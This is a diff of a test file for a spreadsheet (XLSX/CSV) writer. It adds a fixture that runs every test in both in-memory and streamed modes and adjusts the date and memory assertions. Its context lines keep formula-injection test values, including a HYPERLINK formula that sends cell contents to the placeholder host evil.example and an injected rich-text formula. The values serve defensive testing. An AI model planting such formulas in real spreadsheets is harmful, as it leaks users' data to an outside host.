@@ -43,6 +43,18 @@ HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")', "+7 9
 RICH_TEXT_INJECTION = '<r><t>x</t></r></is><f>HYPERLINK("http://evil.example","x")</f><is><r><t>y</t></r>'
 
 
+@pytest.fixture(autouse=True, params=["in memory", "streamed"])
+def xlsx_mode(request, monkeypatch):
+    """Every test twice: a small workbook is built in memory, a large one streamed in batches (tiny here,
+    so that batches split tables and mix kinds); both must write the same cells."""
+    from openmosprom_cli.io import writer_xlsx
+
+    if request.param == "streamed":
+        monkeypatch.setattr(writer_xlsx, "SMALL_WORKBOOK_ROWS", -1)
+        monkeypatch.setattr(writer_xlsx, "STREAM_BATCH_ROWS", 3)
+    return request.param
+
+
 def read_rows(path, sheet):
     with open_workbook(path) as book:
         return dict(book.rows(sheet))
@@ -319,7 +331,9 @@ def test_the_same_rows_give_the_same_bytes_at_any_time_in_any_zone(tmp_path, clo
     assert first_csv == second_csv
     with zipfile.ZipFile(io.BytesIO(first)) as archive:
         core = archive.read("docProps/core.xml").decode()
-        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 31, 0, 0, 0)}
+        # xlsxwriter dates its entries 1980-01-01 (in memory) or 1980-01-31 (streamed), never now.
+        (entry_date,) = {info.date_time for info in archive.infolist()}
+        assert entry_date in {(1980, 1, 1, 0, 0, 0), (1980, 1, 31, 0, 0, 0)}
     assert "<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-11-20T12:00:00Z</dcterms:created>" in core
     assert "<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2026-11-20T12:00:00Z</dcterms:modified>" in core
     assert "<dc:creator>openmosprom</dc:creator>" in core
@@ -485,5 +499,6 @@ def test_memory_stays_flat_however_many_rows(tmp_path):
         finally:
             tracemalloc.stop()
 
-    small, large = peak(1_000), peak(20_000)
+    # Both streamed (a workbook this long always is): memory is a batch's, whatever the number of rows.
+    small, large = peak(20_000), peak(100_000)
     assert large < small * 1.5
